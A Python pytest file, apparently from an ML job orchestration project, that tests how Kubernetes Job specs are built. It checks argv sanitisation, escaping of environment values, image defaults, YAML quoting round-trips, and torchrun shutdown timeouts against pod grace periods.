    args = argv(job)
    assert args[0] not in SHELL_ARGV0 and "-c" not in args
    for arg in args:
        assert "$(" not in arg
        assert not any(word in arg for word in NASTY if len(word) > 5)
        assert re.fullmatch(r"[-A-Za-z0-9_./=:]+", arg), arg
    for var in container(job)["env"]:
        assert "$(" not in var.get("value", "")
    assert_valid(cm)
    assert_valid(job)


def test_image_defaults_and_overrides(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LMFORGE_JOBS_IMAGE", "registry.local/jobs:dev")
    res = resource(evaluation_doc())
    assert builders.image_for(res) == "registry.local/jobs:dev"
    res = resource(evaluation_doc(image="registry.local/custom:7"))
    assert builders.image_for(res) == "registry.local/custom:7"
    job = builders.build_job(res, owner_of(res), image=builders.image_for(res))
    assert container(job)["image"] == "registry.local/custom:7"
    monkeypatch.delenv("LMFORGE_JOBS_IMAGE")
    assert builders.default_image().startswith("ghcr.io/lmforge/lmforge-jobs:")


def test_extra_env_is_never_expanded_and_service_account_is_optional() -> None:
    res = resource(evaluation_doc())
    plain = builders.build_job(res, owner_of(res), image=IMAGE)
    assert "serviceAccountName" not in plain["spec"]["template"]["spec"]
    job = builders.build_job(
        res,
        owner_of(res),
        image=IMAGE,
        env={"LMFORGE_CHECKPOINT": "s3://b/$(HOME)/step-$$1"},
        service_account="lmforge-jobs",
    )
    # Kubernetes turns $$ into $ and leaves $(HOME) alone only when escaped: the job sees the text as given
    assert env_of(job)["LMFORGE_CHECKPOINT"]["value"] == "s3://b/$$(HOME)/step-$$$$1"
    pod = job["spec"]["template"]["spec"]
    assert pod["serviceAccountName"] == "lmforge-jobs"
    assert pod["automountServiceAccountToken"] is False
    assert_valid(job)


def test_dump_spec_quotes_exactly_the_strings_yaml_would_misread() -> None:
    """dump_spec decides quoting with a cached check and a no-parse fast path for path-like strings: both
    agree with a full YAML re-parse, and every string round-trips (twice: the second from the cache)."""
    samples = [
        "1e5",
        "yes",
        "no",
        "on",
        "null",
        "~",
        "true",
        "0x1F",
        "0o17",
        ".inf",
        "-.nan",
        "12:30",
        "1_000",
        "2024-01-01",
        "org/model",
        "s3://bench/evals/r00001",
        "pvc://vol/a/b",
        "a/b:",
        "1/2",
        "a/b#c",
        "a: b/c",
        "/abs/path",
        "-x/y",
        "&a/b",
        "*a/b",
        "!t/x",
        "a/b,c",
        "[a/b]",
        "{a/b}",
        "?a/b",
        "%a/b",
        "@a/b",
        "`a/b",
        "a/ #b",
        "a/b ",
        " a/b",
        "",
        "hellaswag",
        "r00001-evaluate",
        "a:/b",
        "0/0",
        "1e5/",
    ]
    for value in samples:
        try:
            misread = load_yaml_documents(value) != [value]
        except Exception:
            misread = True
        builders._needs_quotes.cache_clear()
        assert builders._needs_quotes(value) == misread, value
        for _ in range(2):
            (loaded,) = load_yaml_documents(builders.dump_spec({"k": value, value: [value]}))
            assert loaded == {"k": value, value: [value]}, value


def test_torchrun_waits_the_pods_grace_period_for_its_workers() -> None:
    """torchrun's own shutdown timeout (30 s) would SIGKILL a rank still writing its final checkpoint."""
    for kind in ("PretrainRun", "AlignmentRun"):
        grace = KINDS[kind].grace_seconds
        timeout = builders.shutdown_timeout(kind)
        assert 30 < timeout < grace
    res = resource(pretrain_doc())
    job = builders.build_job(res, owner_of(res), image=IMAGE)
    grace = job["spec"]["template"]["spec"]["terminationGracePeriodSeconds"]
    flag = next(a for a in argv(job) if a.startswith("--shutdown-timeout="))
    assert grace - 60 <= int(flag.split("=")[1]) < grace
